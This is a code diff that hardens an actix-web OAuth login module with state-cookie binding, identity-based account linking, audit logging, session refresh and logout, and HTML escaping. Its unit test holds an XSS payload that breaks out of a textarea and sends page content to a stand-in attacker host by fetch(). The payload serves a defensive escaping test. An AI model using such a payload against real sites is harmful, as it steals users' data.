@@ -1,40 +1,60 @@
-use actix_web::{routes, web, HttpResponse, Responder};
+use actix_web::cookie::{Cookie, SameSite};
+use actix_web::http::header;
+use actix_web::{routes, web, HttpRequest, HttpResponse, Responder};
 
 use crate::app_state::AppState;
 use crate::errors::Error;
-use crate::models::User;
-use crate::payloads::{AuthResponse, OAuthCallback};
+use crate::models::{AuditAction, AuditContext, AuditEvent, LoginResponseType, User, UserIdentity};
+use crate::payloads::{AuthResponse, LogoutRequest, OAuthCallback, RefreshRequest};
 
 use serde::Deserialize;
 
+// Binds the login to the browser that started it, a callback carrying someone else's state
+// would otherwise sign the victim in as them.
+const OAUTH_STATE_COOKIE: &str = "oauth_state";
+const CALLBACK_PATH: &str = "/api/auth/callback";
+
 #[routes]
 #[get("/api/auth/callback")]
 pub async fn callback(
+    req: HttpRequest,
     query: web::Query<OAuthCallback>,
     data: web::Data<AppState>,
 ) -> Result<impl Responder, Error> {
     let callback_data = query.into_inner();
-    let state = callback_data.state.clone();
-    let code = callback_data.code;
-    println!("State: {}, code: {}", state, code);
-    let (user_info, token) = data
+    let same_browser = req
+        .cookie(OAUTH_STATE_COOKIE)
+        .is_some_and(|cookie| cookie.value() == callback_data.state);
+    if !same_browser {
+        return Err(Error::Unauthorized(
+            "the login was started from another browser".to_string(),
+        ));
+    }
+
+    // The provider's token only proves who the user is, the session tokens are ours.
+    let (user_info, _provider_token, oauth_state) = data
         .auth_service
-        .exchange_code_for_token(code, state)
-        .await
-        .map_err(|e| Error::Internal(e.to_string()))?;
+        .exchange_code_for_token(callback_data.code, callback_data.state)
+        .await?;
 
+    // Accounts are never linked on the email, a provider may not have verified it.
+    let identity = UserIdentity {
+        provider: oauth_state.provider.clone(),
+        subject: user_info.id.clone(),
+    };
     let existing_user = data
         .user_service
-        .get_by_google_id(user_info.id.clone())
+        .find_by_identity(identity.clone())
         .await
         .map_err(|e| Error::Internal(e.to_string()))?;
 
-    let _user = match existing_user {
+    let user = match existing_user {
         Some(user) => user,
         None => {
             let user_model = User::new(
-                user_info.id.clone(),
+                identity,
                 user_info.email.clone(),
+                user_info.email_verified,
                 user_info.name.clone(),
                 user_info.picture.clone(),
             );
@@ -46,15 +66,47 @@ pub async fn callback(
         }
     };
 
-    let response = AuthResponse { user_info, token };
-    let response_type = if callback_data.state.contains(':') {
-        callback_data.state.split(':').nth(1).unwrap_or("json")
-    } else {
-        "json"
+    let event = AuditEvent {
+        action: AuditAction::Login,
+        context: AuditContext::new(
+            Some(user.id),
+            None,
+            req.peer_addr().map(|addr| addr.ip().to_string()),
+        ),
+        household_id: None,
+        target: Some(user.id.to_string()),
+        before: None,
+        after: None,
     };
+    if let Err(e) = data.audit_service.record(event).await {
+        tracing::warn!(user_id = %user.id, error = %e, "Failed to record audit entry for login");
+    }
+
+    // Devices registered before households move into the user's own one.
+    if let Err(e) = data.household_service.ensure_personal(&user).await {
+        tracing::warn!(user_id = %user.id, error = %e, "Failed to set up the household");
+    }
 
-    // We only take care of html or always return json payload
-    if response_type == "html" {
+    // A bad invitation fails the login, the user can sign in again without it.
+    if let Some(code) = &oauth_state.invitation {
+        let verified_email = user_info.email_verified.then_some(user_info.email.as_str());
+        let household = data
+            .household_service
+            .redeem(&user, verified_email, code)
+            .await?;
+        tracing::info!(user_id = %user.id, household_id = %household.id, "User joined household");
+    }
+
+    let token = data.session_service.create(&user).await?;
+
+    let response = AuthResponse { user_info, token };
+    let mut removal_cookie = state_cookie(&req, String::new());
+    removal_cookie.make_removal();
+
+    if oauth_state.response_type == LoginResponseType::Html {
+        let json = serde_json::to_string(&response).map_err(|e| Error::Internal(e.to_string()))?;
+        // The name and picture come from the provider, they must not close the textarea.
+        let json = escape_html(&json);
         let html_body = format!(
             r#"
         <!DOCTYPE html>
@@ -68,30 +120,160 @@ pub async fn callback(
         </body>
         </html>
         "#,
-            serde_json::to_string(&response).unwrap()
+            json
         );
-        Ok(HttpResponse::Ok().content_type("text/html").body(html_body))
+        // Carries the session tokens, nothing on the way keeps a copy.
+        Ok(HttpResponse::Ok()
+            .cookie(removal_cookie)
+            .content_type("text/html")
+            .insert_header((header::CACHE_CONTROL, "no-store"))
+            .body(html_body))
     } else {
-        Ok(HttpResponse::Ok().json(response))
+        Ok(HttpResponse::Ok().cookie(removal_cookie).json(response))
     }
 }
 
 #[derive(Deserialize)]
 pub struct AuthUrlQuery {
-    pub response_type: Option<String>,
+    // One of `GET /api/auth/providers`, the first configured one when not set.
+    pub provider: Option<String>,
+    #[serde(default)]
+    pub response_type: LoginResponseType,
+    // Code of a household invitation, redeemed once the user is signed in.
+    pub invitation: Option<String>,
+}
+
+#[routes]
+#[get("/api/auth/providers")]
+pub async fn auth_providers(data: web::Data<AppState>) -> Result<impl Responder, Error> {
+    Ok(HttpResponse::Ok().json(data.auth_service.providers()))
 }
 
 #[routes]
 #[get("/api/auth/url")]
 pub async fn auth_url(
+    req: HttpRequest,
     query: web::Query<AuthUrlQuery>,
     data: web::Data<AppState>,
 ) -> Result<impl Responder, Error> {
+    let query = query.into_inner();
     let (url, state) = data
         .auth_service
-        .get_authorisation_url(query.response_type.clone())
-        .await
-        .map_err(|e| Error::Internal(e.to_string()))?;
+        .get_authorisation_url(query.provider, query.response_type, query.invitation)
+        .await?;
+
+    Ok(HttpResponse::Ok()
+        .cookie(state_cookie(&req, state.clone()))
+        .json((url, state)))
+}
 
-    Ok(HttpResponse::Ok().json((url, state)))
+// Same as `auth_url` but redirects to the provider, for clients opening the login in a browser
+// since the state cookie must be set in the browser itself.
+#[routes]
+#[get("/api/auth/login")]
+pub async fn login(
+    req: HttpRequest,
+    query: web::Query<AuthUrlQuery>,
+    data: web::Data<AppState>,
+) -> Result<impl Responder, Error> {
+    let query = query.into_inner();
+    let (url, state) = data
+        .auth_service
+        .get_authorisation_url(query.provider, query.response_type, query.invitation)
+        .await?;
+
+    Ok(HttpResponse::Found()
+        .cookie(state_cookie(&req, state))
+        .insert_header((header::LOCATION, url))
+        .finish())
+}
+
+fn escape_html(text: &str) -> String {
+    let mut escaped = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '&' => escaped.push_str("&amp;"),
+            '<' => escaped.push_str("&lt;"),
+            '>' => escaped.push_str("&gt;"),
+            '"' => escaped.push_str("&quot;"),
+            '\'' => escaped.push_str("&#39;"),
+            c => escaped.push(c),
+        }
+    }
+    escaped
+}
+
+// Only sent back to the callback, `Lax` since the provider redirects there from its own site.
+fn state_cookie(req: &HttpRequest, state: String) -> Cookie<'static> {
+    Cookie::build(OAUTH_STATE_COOKIE, state)
+        .path(CALLBACK_PATH)
+        .http_only(true)
+        .same_site(SameSite::Lax)
+        .secure(req.connection_info().scheme() == "https")
+        .finish()
+}
+
+#[routes]
+#[post("/api/auth/refresh")]
+pub async fn refresh(
+    body: web::Json<RefreshRequest>,
+    data: web::Data<AppState>,
+) -> Result<impl Responder, Error> {
+    let tokens = data
+        .session_service
+        .refresh(body.into_inner().refresh_token)
+        .await?;
+
+    Ok(HttpResponse::Ok().json(tokens))
+}
+
+#[routes]
+#[post("/api/auth/logout")]
+pub async fn logout(
+    req: HttpRequest,
+    body: web::Json<LogoutRequest>,
+    data: web::Data<AppState>,
+) -> Result<impl Responder, Error> {
+    let body = body.into_inner();
+    let all = body.all;
+    let user_id = data.session_service.logout(body.refresh_token, all).await?;
+
+    let event = AuditEvent {
+        action: AuditAction::Logout,
+        context: AuditContext::new(
+            Some(user_id),
+            None,
+            req.peer_addr().map(|addr| addr.ip().to_string()),
+        ),
+        household_id: None,
+        target: Some(user_id.to_string()),
+        before: None,
+        after: Some(serde_json::json!({ "all_sessions": all })),
+    };
+    if let Err(e) = data.audit_service.record(event).await {
+        tracing::warn!(user_id = %user_id, error = %e, "Failed to record audit entry for logout");
+    }
+
+    Ok(HttpResponse::NoContent().finish())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn provider_values_cant_leave_the_textarea() {
+        let name = r#"</textarea><script>fetch("https://evil.example.com?" + document.body.innerHTML)</script>"#;
+        let json = serde_json::to_string(&serde_json::json!({ "name": name, "picture": "a&b'c" }))
+            .unwrap();
+
+        let escaped = escape_html(&json);
+        assert!(!escaped.contains('<'));
+        assert!(!escaped.contains('>'));
+        assert!(!escaped.contains('"'));
+        assert_eq!(
+            escape_html(r#"<a href="x">&'</a>"#),
+            "&lt;a href=&quot;x&quot;&gt;&amp;&#39;&lt;/a&gt;"
+        );
+    }
 }